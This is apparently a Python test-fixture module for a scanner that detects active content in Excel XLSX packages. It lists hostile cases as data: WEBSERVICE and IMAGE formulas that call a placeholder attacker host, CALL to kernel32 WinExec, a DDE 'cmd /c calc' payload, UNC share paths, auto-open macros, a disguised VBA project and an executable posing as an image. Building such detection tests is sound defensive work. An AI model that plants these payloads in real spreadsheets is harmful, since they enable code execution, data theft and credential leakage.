"""What acts in a package, with the words that name it: macros, links, connections, objects, functions that fetch."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.functional.cases.active_parts import (
    BINARY,
    DRAWING_RELATIONS,
    EVIL,
    EXTENDED,
    LINK_SPACES,
    MACROS,
    MICROSOFT,
    PICTURE,
    SHAPE,
    SHEET_RELATIONS,
    after,
    control,
    drawing,
    external_book,
    formula,
    in_book,
    link,
    name,
    part,
    picture_of_vectors,
    related,
    steps,
    vml,
)
from tests.functional.cases.containers import SHEETS, TYPES, replaced
from tests.functional.cases.xlsx import KIND, OFFICE

if TYPE_CHECKING:
    from tests.functional.cases.containers import Change

MACRO, CONTROL, DDE, FUNCTION, LINK = "macro", "ActiveX", "DDE", "hàm lấy dữ liệu", "liên kết tới tệp khác"
CONNECTION, OBJECT, IMAGE, ADD_IN, XML = (
    "kết nối dữ liệu",
    "đối tượng nhúng",
    "ảnh hoặc mẫu",
    "tiện ích",
    "XML tùy biến",
)


FETCHES = {
    "WEBSERVICE": f'_xlfn.WEBSERVICE("{EVIL}")',
    "WEBSERVICE in letters by number": f'_xlfn.&#87;EBSERVICE("{EVIL}")',
    "WEBSERVICE within IF": f'IF(TRUE,SUM(1,_xlfn.WEBSERVICE("{EVIL}")))',
    "IMAGE": f'_xlfn.IMAGE("{EVIL}")',
    "RTD": 'RTD("prog.id",,"x")',
    "STOCKHISTORY": '_xlfn.STOCKHISTORY("MSFT",1)',
    "CUBEVALUE": 'CUBEVALUE("c","m")',
    "CALL": 'CALL("kernel32","WinExec","JCJ","calc",0)',
    "REGISTER.ID": 'REGISTER.ID("kernel32","WinExec","JCJ")',
    "PY": "_xlfn._xlws.PY(0,1)",
    "an add-in's function": "VND(K5)",
    "WEBSERVICE that is handed on": "_xlfn.MAP(K5:K9,_xleta.WEBSERVICE)",
    "WEBSERVICE beside a sheet with the sign of a text": "'a\"b'!A1&amp;_xlfn.WEBSERVICE(K5)&amp;'a\"b'!A1",
}
BY_XLSX: dict[str, tuple[str, Change]] = {
    **{f"a cell with {called}": (FUNCTION, formula(text)) for called, text in FETCHES.items()},
    "a program called by DDE": (DDE, formula("cmd|'/c calc'!A0")),
    "another book in a formula": (LINK, formula("[1]So!A1")),
    "another book in a quoted name": (LINK, formula("'[1]Tháng 11'!A1")),
    "a path in a formula": (LINK, formula(r"'\\192.0.2.1\c\[so.xlsx]So'!A1")),
    "HYPERLINK": (LINK, formula(f'HYPERLINK("{EVIL}","x")')),
    "HYPERLINK to what a cell says": (LINK, formula("HYPERLINK(B5)")),
    "INDIRECT to another book": (LINK, formula("INDIRECT(\"'[so.xlsx]So'!A1\")")),
    "WEBSERVICE in a name": (FUNCTION, name(f'_xlfn.WEBSERVICE("{EVIL}")')),
    "WEBSERVICE by the name of a name": (FUNCTION, name("_xlfn.WEBSERVICE")),
    "WEBSERVICE in a name beside letters by number": (
        FUNCTION,
        name('"&amp;quot;"&amp;_xlfn.WEBSERVICE(HTX!K5)&amp;"&amp;quot;"'),
    ),
    "a path to a name": (LINK, formula(r"'C:\x\so.xlsx'!Ten")),
    "HYPERLINK to another book that is called a place": (
        LINK,
        formula(r'HYPERLINK("#[\\192.0.2.1\c\so.xlsx]So!A1","x")'),
    ),
    "a name that opens itself": (MACRO, name("HTX!$A$1", "Auto_Open")),
    "a name of a macro": (MACRO, name("HTX!$A$1", attributes=' function="1" vbProcedure="1"')),
    "WEBSERVICE in a validation": (
        FUNCTION,
        after(
            '<dataValidations count="1"><dataValidation type="custom" sqref="AG9"><formula1>'
            f'_xlfn.WEBSERVICE("{EVIL}")</formula1></dataValidation></dataValidations>'
        ),
    ),
    "WEBSERVICE in an extended validation": (FUNCTION, after(EXTENDED.format(f'_xlfn.WEBSERVICE("{EVIL}")'))),
    "WEBSERVICE in a format": (
        FUNCTION,
        after(
            '<conditionalFormatting sqref="AG9"><cfRule type="expression" priority="1"><formula>'
            f'LEN(_xlfn.WEBSERVICE("{EVIL}"))</formula></cfRule></conditionalFormatting>'
        ),
    ),
    "macros": (
        MACRO,
        steps(
            part("xl/vbaProject.bin", BINARY, "application/vnd.ms-office.vbaProject"),
            related(f"{MICROSOFT}/2006/relationships/vbaProject", "vbaProject.bin"),
            replaced(TYPES, f"{KIND}.sheet.main+xml", MACROS),
        ),
    ),
    "macros under another name": (
        MACRO,
        steps(
            part("xl/media/image1.png", BINARY, "image/png"),
            related(f"{MICROSOFT}/2006/relationships/vbaProject", "media/image1.png"),
        ),
    ),
    "macros that nothing leads to": (MACRO, part("xl/vbaProject.bin", BINARY, "application/vnd.ms-office.vbaProject")),
    **{called: (MACRO, change) for called, change in SHEETS.items() if "macro" in called or "dialog" in called},
    "a book of links": (
        LINK,
        external_book(f'<externalLink {LINK_SPACES}><externalBook r:id="rId90"/></externalLink>'),
    ),
    "a link by DDE": (
        DDE,
        external_book(f'<externalLink {LINK_SPACES}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
    ),
    "connections": (
        CONNECTION,
        steps(
            part(
                "xl/connections.xml",
                f'<connections {LINK_SPACES}><connection id="1" type="1"><dbPr connection="DSN=x" command="x"/>'
                "</connection></connections>",
                f"{KIND}.connections+xml",
            ),
            related("connections", "connections.xml"),
        ),
    ),
    "a data model": (
        CONNECTION,
        steps(
            part("xl/model/item.data", b"x", "application/vnd.openxmlformats-officedocument.model+data"),
            related(
                f"{MICROSOFT}/2011/relationships/powerPivotData".replace("/office/", "/office/"), "model/item.data"
            ),
        ),
    ),
    "an object": (
        OBJECT,
        steps(
            part("xl/embeddings/oleObject1.bin", BINARY, "application/vnd.openxmlformats-officedocument.oleObject"),
            related("oleObject", "../embeddings/oleObject1.bin", of=SHEET_RELATIONS, identity="rId1"),
            after(control('<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId1"/></oleObjects>')),
        ),
    ),
    "a control": (
        CONTROL,
        steps(
            part("xl/activeX/activeX1.bin", BINARY, "application/vnd.ms-office.activeX"),
            part("xl/activeX/activeX1.xml", "<ocx/>", "application/vnd.ms-office.activeX+xml"),
            related("control", "../activeX/activeX1.xml", of=SHEET_RELATIONS, identity="rId1"),
            after(control('<controls><control shapeId="1025" r:id="rId1" name="Nut"/></controls>')),
        ),
    ),
    "an image from elsewhere": (
        IMAGE,
        drawing(PICTURE, related("image", EVIL, of=DRAWING_RELATIONS, outside=True, identity="rId1")),
    ),
    "a background from elsewhere": (
        IMAGE,
        steps(
            related("image", EVIL, of=SHEET_RELATIONS, outside=True, identity="rId1"),
            after(f'<picture xmlns:r="{OFFICE}" r:id="rId1"/>'),
        ),
    ),
    "an old image from elsewhere": (IMAGE, vml(f'<v:imagedata src="{EVIL}"/>')),
    "a template from elsewhere": (IMAGE, related("attachedTemplate", EVIL, outside=True)),
    "a shape that calls a macro": (MACRO, drawing(SHAPE.format('macro="[0]!Chay"', ""))),
    "a shape that shows another book": (LINK, drawing(SHAPE.format('macro="" textlink="[1]So!A1"', ""))),
    "a button that calls a macro": (
        MACRO,
        vml('<x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!Chay</x:FmlaMacro></x:ClientData>'),
    ),
    "a link to a share that is called a place": (
        LINK,
        steps(
            related("hyperlink", r"#\\192.0.2.1\c\so.xlsx", of=SHEET_RELATIONS, identity="rId7"),
            after(f'<hyperlinks xmlns:r="{OFFICE}"><hyperlink ref="B5" r:id="rId7"/></hyperlinks>'),
        ),
    ),
    "smart tags": (
        ADD_IN,
        in_book(
            f'<smartTagTypes><smartTagType namespaceUri="urn:x" name="x" url="{EVIL}"/></smartTagTypes>',
        ),
    ),
    "a program": (OBJECT, part("xl/media/hoa-don.exe", b"MZ", "image/png")),
    "a drawing that runs": (MACRO, picture_of_vectors(b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>')),
    "a drawing that fetches": (
        LINK,
        picture_of_vectors(f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}"/></svg>'.encode()),
    ),
    "a link to a share": (LINK, link(r"file:///\\192.0.2.1\c\so.xlsx")),
    "a link of a shape": (
        LINK,
        drawing(
            SHAPE.format('macro=""', '<a:hlinkClick r:id="rId1"/>'),
            related("hyperlink", r"\\192.0.2.1\c\so.exe", of=DRAWING_RELATIONS, outside=True, identity="rId1"),
        ),
    ),
    "custom XML": (
        XML,
        steps(part("customXml/item1.xml", "<x/>"), related("customXml", "../customXml/item1.xml")),
    ),
    "a ribbon": (
        ADD_IN,
        steps(
            part("customUI/customUI14.xml", "<customUI onLoad='x'/>"),
            related(f"{MICROSOFT}/2007/relationships/ui/extensibility", "customUI/customUI14.xml", of="_rels/.rels"),
        ),
    ),
    "an add-in of the web": (
        ADD_IN,
        steps(
            part("xl/webextensions/taskpanes.xml", "<x/>", "application/vnd.ms-office.webextensiontaskpanes+xml"),
            related(
                f"{MICROSOFT}/2011/relationships/webextensiontaskpanes",
                "xl/webextensions/taskpanes.xml",
                of="_rels/.rels",
            ),
        ),
    ),
}
"""What acts in a package, with the words that name it."""
